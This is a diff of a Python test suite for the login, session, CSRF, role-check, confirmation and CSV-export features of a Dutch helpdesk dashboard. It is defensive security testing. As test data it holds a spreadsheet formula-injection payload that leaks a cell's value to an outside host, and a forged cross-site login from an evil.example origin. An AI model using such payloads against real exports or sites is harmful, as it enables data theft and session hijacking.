@@ -3,6 +3,8 @@ the pages (on SQLite and PostgreSQL) and what an anonymous visitor gets (nothing
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 import time
 from datetime import date
@@ -91,16 +93,16 @@ async def test_a_login_link_works_once_and_sets_a_strict_http_only_cookie(web: W
     token = await LoginLinks(web.desk.redis, web.settings.secret()).issue(EXPERT)
     form = await web.client.get(f"/dashboard/login?t={token}")
     assert form.status == 200 and token in await form.text()
-    resp = await web.client.post("/dashboard/login", data={"t": token}, allow_redirects=False)
+    resp = await web.post_login(token)
     assert resp.status == 303 and resp.headers["Location"] == "/dashboard/queue"
-    cookie = resp.headers["Set-Cookie"]
-    assert "HttpOnly" in cookie and "SameSite=Strict" in cookie and "Path=/dashboard" in cookie
-    assert "Secure" not in cookie  # plain http in the test; see the https test below
+    cookie = resp.cookies["vb_session"]
+    assert cookie["httponly"] and cookie["samesite"] == "Strict" and cookie["path"] == "/dashboard"
+    assert not cookie["secure"]  # plain http in the test; see the https test below
     assert (await web.client.get("/dashboard/queue", allow_redirects=False)).status == 200
     web.client.session.cookie_jar.clear()
-    again = await web.client.post("/dashboard/login", data={"t": token}, allow_redirects=False)
+    again = await web.post_login(token)
     assert again.status == 303 and again.headers["Location"].startswith("/dashboard/how")
-    assert "Set-Cookie" not in again.headers
+    assert "vb_session" not in again.cookies
 
 
 async def test_forged_expired_and_outsider_links_are_refused(web: Web) -> None:
@@ -117,10 +119,9 @@ async def test_forged_expired_and_outsider_links_are_refused(web: Web) -> None:
                                      signer=Past).dumps(nonce)
     outsider = await links.issue(12345)  # neither expert nor admin
     for token in (forged, expired, outsider, "garbage"):
-        resp = await web.client.post("/dashboard/login", data={"t": token},
-                                     allow_redirects=False)
+        resp = await web.post_login(token)
         assert resp.status == 303 and resp.headers["Location"].startswith("/dashboard/how")
-        assert "Set-Cookie" not in resp.headers
+        assert "vb_session" not in resp.cookies
 
 
 async def test_cookie_is_secure_behind_https(settings: Settings, redis) -> None:
@@ -129,8 +130,81 @@ async def test_cookie_is_secure_behind_https(settings: Settings, redis) -> None:
     async with desk_services(https) as desk, TestClient(TestServer(
             init_app(https, desk, WebState()))) as client:
         token = await LoginLinks(desk.redis, https.secret()).issue(ADMIN)
-        resp = await client.post("/dashboard/login", data={"t": token}, allow_redirects=False)
-        assert "Secure" in resp.headers["Set-Cookie"]
+        form = await client.get("/dashboard/login", params={"t": token})
+        assert form.cookies["vb_login"]["secure"]
+        # The test client speaks plain http and so keeps Secure cookies to itself: hand it on.
+        bound = form.cookies["vb_login"].value
+        resp = await client.post("/dashboard/login", data={"t": token, "form": bound},
+                                 cookies={"vb_login": bound}, allow_redirects=False)
+        assert resp.cookies["vb_session"]["secure"]
+
+
+async def test_a_login_posted_from_another_site_is_refused(web: Web) -> None:
+    token = await LoginLinks(web.desk.redis, web.settings.secret()).issue(EXPERT)
+    # Another site's form: no cookie of our login page (SameSite=Strict), or a form token
+    # the attacker fetched for their own browser.
+    attacker_page = await (await web.client.get("/dashboard/login")).text()
+    their_form = re.search(r'name="form" value="([^"]+)"', attacker_page).group(1)
+    web.client.session.cookie_jar.clear()
+    for data in ({"t": token}, {"t": token, "form": their_form}):
+        resp = await web.client.post("/dashboard/login", data=data, allow_redirects=False,
+                                     headers={"Origin": "https://evil.example"})
+        assert resp.status == 403 and "vb_session" not in resp.cookies
+        page = await resp.text()
+        assert "<h1>Inloggen geweigerd</h1>" in page
+        assert "niet verstuurd vanaf de eigen inlogpagina" in page
+    resp = await web.post_login(token)  # the link from the bot was not used up
+    assert resp.status == 303 and resp.headers["Location"] == "/dashboard/queue"
+
+
+def session_cookie(web: Web) -> str:
+    return next(c.value for c in web.client.session.cookie_jar if c.key == "vb_session")
+
+
+async def test_the_admin_role_is_checked_on_every_request(web: Web) -> None:
+    code = await web.desk.experts.create_invite("Coördinator", (), ("nl",))
+    await web.desk.experts.redeem_invite(code, ADMIN)  # a coordinator who is an expert too
+    await web.login(ADMIN)
+    assert (await web.client.get("/dashboard/experts")).status == 200
+    was_admin = session_cookie(web)
+    web.client.session.cookie_jar.clear()
+    await web.login(EXPERT)
+    was_expert = session_cookie(web)
+    # Restarted with VRAAGBAAK_ADMIN_IDS naming the other one; the sessions are in Redis.
+    changed = web.settings.model_copy(update={"admin_ids": [EXPERT]})
+    async with desk_services(changed) as desk, TestClient(TestServer(
+            init_app(changed, desk, WebState()))) as client:
+        client.session.cookie_jar.update_cookies({"vb_session": was_admin})
+        assert (await client.get("/dashboard/experts")).status == 403
+        page = await (await client.get("/dashboard/queue")).text()
+        assert "Wachtrij (live)" in page and "/dashboard/experts" not in page
+        client.session.cookie_jar.clear()
+        client.session.cookie_jar.update_cookies({"vb_session": was_expert})
+        assert (await client.get("/dashboard/experts")).status == 200
+        await web.desk.experts.remove(EXPERT)  # still an admin, so still in
+        assert (await client.get("/dashboard/experts")).status == 200
+        await web.desk.experts.remove(ADMIN)  # neither expert nor admin: out at once
+        client.session.cookie_jar.clear()
+        client.session.cookie_jar.update_cookies({"vb_session": was_admin})
+        resp = await client.get("/dashboard/queue/live", allow_redirects=False)
+        assert resp.status == 303 and resp.headers["Location"] == "/dashboard/how"
+
+
+async def test_polling_does_not_extend_the_idle_expiry(web: Web) -> None:
+    await web.login(EXPERT)
+    [key] = [k async for k in web.desk.redis.scan_iter("vb:web:session:*")]
+    await web.desk.redis.expire(key, 600)  # ten minutes left of the idle time
+    for _ in range(3):
+        live = await web.client.get("/dashboard/queue/live")
+        assert live.status == 200 and "vb_session" not in live.cookies
+    fetched = await web.client.get("/dashboard/queue", headers={"Sec-Fetch-Mode": "cors"})
+    assert fetched.status == 200
+    assert await web.desk.redis.ttl(key) <= 600
+    # Opening a page is something the person did: the idle time starts again.
+    opened = await web.client.get("/dashboard/summaries",
+                                  headers={"Sec-Fetch-Mode": "navigate"})
+    assert opened.status == 200 and opened.cookies["vb_session"]["max-age"] == str(8 * 3600)
+    assert await web.desk.redis.ttl(key) > 8 * 3600 - 5
 
 
 async def test_sessions_end_after_idle_time_and_when_the_expert_is_removed(web: Web) -> None:
@@ -161,7 +235,7 @@ async def test_every_form_needs_the_csrf_token(web: Web) -> None:
 
 async def test_security_headers_and_no_inline_script(web: Web) -> None:
     await web.login(ADMIN)
-    for path in ["/dashboard/how", *PAGES[1:-1]]:
+    for path in ["/dashboard/how", *PAGES[1:-1], f"/dashboard/experts/{EXPERT}/remove"]:
         resp = await web.client.get(path)
         assert resp.status == 200, path
         csp = resp.headers["Content-Security-Policy"]
@@ -206,11 +280,94 @@ async def test_admin_pauses_and_removes_an_expert_whose_conversation_is_requeued
     csrf = await web.csrf()
     await web.client.post(f"/dashboard/experts/{EXPERT}/pause", data={"csrf": csrf})
     assert not (await web.desk.experts.get(EXPERT)).available
-    resp = await web.client.post(f"/dashboard/experts/{EXPERT}/remove", data={"csrf": csrf})
+    resp = await web.client.post(f"/dashboard/experts/{EXPERT}/remove",
+                                 data={"csrf": csrf, "confirm": "1"})
     assert resp.status == 200 and not await web.desk.experts.is_expert(EXPERT)
     assert [t.id for t in await web.desk.handoff.queue()] == [ticket.id]
     assert (await web.client.post("/dashboard/experts/999/remove",
-                                  data={"csrf": csrf})).status == 404
+                                  data={"csrf": csrf, "confirm": "1"})).status == 404
+    assert (await web.client.get("/dashboard/experts/999/remove")).status == 404
+
+
+async def test_removing_an_expert_takes_a_confirmation(web: Web) -> None:
+    ticket = await web.desk.handoff.open(5001, "nl", "family", "jeugdhulp", "Utrecht", False)
+    assert await web.desk.handoff.claim(ticket.id, EXPERT, 3) == "ok"
+    await web.login(ADMIN)
+    page = await (await web.client.get("/dashboard/experts")).text()
+    # The table's "Verwijderen" only opens the confirmation; no form there removes anyone.
+    assert f'action="/dashboard/experts/{EXPERT}/remove"' not in page
+    assert re.search(rf'<a [^>]*href="/dashboard/experts/{EXPERT}/remove">Verwijderen'
+                     r'<span class="visually-hidden"> Marieke</span></a>', page)
+    confirm = await (await web.client.get(f"/dashboard/experts/{EXPERT}/remove")).text()
+    assert "<h1>Marieke uit de pool verwijderen?</h1>" in confirm
+    assert ("1 gesprek van deze expert gaat terug naar de wachtrij; de vraagsteller krijgt "
+            "bericht.") in confirm
+    assert ">Marieke verwijderen</button>" in confirm and ">Annuleren</a>" in confirm
+    csrf = await web.csrf()
+    # A post without the confirmation (an old page, a double click) removes nobody.
+    resp = await web.client.post(f"/dashboard/experts/{EXPERT}/remove", data={"csrf": csrf},
+                                 allow_redirects=False)
+    assert resp.status == 303
+    assert resp.headers["Location"] == f"/dashboard/experts/{EXPERT}/remove"
+    assert await web.desk.experts.is_expert(EXPERT) and not await web.desk.handoff.queue()
+    # An expert cannot even see the confirmation page; the service decides who may remove.
+    web.client.session.cookie_jar.clear()
+    await web.login(EXPERT)
+    assert (await web.client.get(f"/dashboard/experts/{EXPERT}/remove")).status == 403
+    resp = await web.client.post(f"/dashboard/experts/{EXPERT}/remove",
+                                 data={"csrf": await web.csrf(), "confirm": "1"})
+    assert resp.status == 403 and await web.desk.experts.is_expert(EXPERT)
+
+
+ADMIN_PAGES = ["/dashboard/queue", "/dashboard/summaries", "/dashboard/trends",
+               "/dashboard/knowledge", "/dashboard/experts", f"/dashboard/experts/{EXPERT}/remove"]
+
+
+async def test_every_page_has_its_own_title_and_focusable_labelled_scroll_regions(
+    web: Web,
+) -> None:
+    await web.desk.handoff.open(5001, "nl", "family", "jeugdhulp", "Utrecht", False)
+    await web.desk.trends.answered(5002, "family", "professional", "nl", False, None)
+    await add_summaries(web, [{}])
+    titles = {}
+    for path in ("/dashboard/how", "/dashboard/login?t=x"):
+        titles[path] = re.search(r"<title>(.*)</title>", await (await web.client.get(path))
+                                 .text()).group(1)
+    await web.login(ADMIN)
+    for path in ADMIN_PAGES:
+        page = await (await web.client.get(path)).text()
+        titles[path] = re.search(r"<title>(.*)</title>", page).group(1)
+        for region in re.findall(r'<div class="scroll"[^>]*>', page):
+            assert 'tabindex="0"' in region and 'role="region"' in region, (path, region)
+            labelled = re.search(r'aria-labelledby="([^"]+)"', region).group(1)
+            assert re.search(rf'<h\d id="{labelled}">[^<]+</h\d>', page), (path, labelled)
+    assert titles["/dashboard/queue"] == "Wachtrij (live) · Vraagbaak-dashboard"
+    assert titles[f"/dashboard/experts/{EXPERT}/remove"] == (
+        "Expert verwijderen · Vraagbaak-dashboard")
+    assert len(set(titles.values())) == len(titles), titles
+    trends = await (await web.client.get("/dashboard/trends")).text()
+    downloads = re.findall(r'<a href="/dashboard/trends\.csv[^"]*">([^<]+)</a>', trends)
+    assert len(downloads) == 5 == len(set(downloads)), downloads
+    assert "CSV downloaden: Vragen per onderwerp per week" in downloads, downloads
+
+
+async def test_summaries_in_another_language_are_marked_as_such(web: Web) -> None:
+    await add_summaries(web, [{"summary": "Advice given about online hate.", "lang": "en",
+                               "comment": "Very helpful."},
+                              {"summary": "Advies gegeven over de klas."}])
+    await web.login(EXPERT)
+    page = await (await web.client.get("/dashboard/summaries")).text()
+    assert '<html lang="nl">' in page
+    assert '<p lang="en">Advice given about online hate.</p>' in page
+    assert '<p class="comment" lang="en">Very helpful.</p>' in page
+    assert "<p>Advies gegeven over de klas.</p>" in page
+
+
+def cell(row: str, label: str) -> str:
+    """The text of a table row's cell under a column (its data-label, shown on a phone)."""
+    found = re.search(rf'<td data-label="{re.escape(label)}"[^>]*>(.*?)</td>', row, re.S)
+    assert found, (label, row)
+    return re.sub(r"<[^>]+>", "", found.group(1)).strip()
 
 
 async def add_summaries(web: Web, rows: list[dict]) -> None:
@@ -248,13 +405,24 @@ async def test_summaries_filter_and_search(web: Web) -> None:
     assert "Oud gesprek" in await found(until="2020-12-31")
 
 
+async def test_dashboard_csv_downloads_neutralise_formulas(web: Web) -> None:
+    formula = '=HYPERLINK("http://x.nl/?"&A1,"Klik")'  # a province is at most 40 long
+    await add_summaries(web, [{"province": formula, "sector": "@SUM(1+1)"}])
+    await web.login(EXPERT)
+    for table, label in (("provinces", formula), ("sectors", "@SUM(1+1)")):
+        resp = await web.client.get("/dashboard/trends.csv", params={"table": table})
+        rows = list(csv.reader(io.StringIO(await resp.text())))
+        assert ["'" + label, "< 5"] in rows, rows
+
+
 async def test_experts_page_shows_conversations_time_to_claim_and_rating(web: Web) -> None:
     await add_summaries(web, [{"waiting_minutes": 10, "rating": 4},
                               {"waiting_minutes": 20, "rating": 5}])
     await web.login(ADMIN)
     page = await (await web.client.get("/dashboard/experts")).text()
     row = page[page.index("Marieke"):page.index("</tr>", page.index("Marieke"))]
-    assert "<td>2</td>" in row and "15 min" in row and "4.5" in row
+    assert cell(row, "Afgesloten") == "2" and cell(row, "Gem. tijd tot oppakken") == "15 min"
+    assert cell(row, "Gem. waardering") == "4.5"
 
 
 async def test_knowledge_page_counts_served_votes_and_handoffs(web: Web) -> None:
@@ -266,9 +434,11 @@ async def test_knowledge_page_counts_served_votes_and_handoffs(web: Web) -> None
     await web.desk.feedback.record(sid, False)
     await web.login(EXPERT)
     page = await (await web.client.get("/dashboard/knowledge")).text()
-    row = page[page.index(sid) - 300:page.index("</tr>", page.index(sid))]
-    assert "<td>6</td>" in row and "<td>0</td><td>1</td>" in row and "1 (17%)" in row
-    assert 'class="weak"' in row
+    row = page[page.rindex("<tr", 0, page.index(sid)):page.index("</tr>", page.index(sid))]
+    assert cell(row, "Getoond") == "6" and cell(row, "Helpt") == "0"
+    assert cell(row, "Helpt niet") == "1" and cell(row, "Daarna naar expert") == "1 (17%)"
+    # Weak in words, not only by the row's tint.
+    assert 'class="weak"' in row and '<span class="tag weak-tag">zwak</span>' in row
 
 
 async def test_migrations_reach_the_newest_revision(web: Web) -> None:
